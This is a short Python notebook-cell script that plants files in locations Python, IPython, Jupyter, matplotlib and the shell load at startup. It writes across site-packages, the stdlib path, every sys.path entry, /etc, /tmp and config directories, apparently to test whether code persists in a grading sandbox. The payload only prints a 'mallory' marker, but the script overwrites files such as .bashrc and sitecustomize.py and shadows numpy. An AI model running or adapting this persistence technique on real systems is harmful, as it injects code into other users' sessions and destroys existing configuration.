# Leaves files that Python, IPython, Jupyter and matplotlib run or read when they start.

# %% first
import os, pathlib, site, sys, sysconfig
code = "import builtins; builtins.print('left-by-' + 'mallory')"
places = [site.getusersitepackages(), sysconfig.get_path("purelib"), sysconfig.get_path("stdlib"), *sys.path,
          "~/.ipython/profile_default/startup", "~/.jupyter", "~/.config/matplotlib", "/tmp", "/etc", "..", "/dev/shm",
          os.environ.get("IPYTHONDIR", ".") + "/profile_default/startup", os.environ.get("MPLCONFIGDIR", "."), "COURSE"]
names = ["sitecustomize.py", "usercustomize.py", "x.pth", "00.py", "ipython_config.py", "jupyter_config.py",
         "nbgrader_config.py", "matplotlibrc", "numpy.py", "ravine.py", ".bashrc", "conftest.py"]
for place in places:
    for name in names:
        try:
            path = pathlib.Path(place).expanduser() / name
            if "left-by" in (path.read_text() if path.exists() else "") and not path.is_relative_to(os.getcwd()):
                print(code)
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_text(code)
        except OSError:
            pass
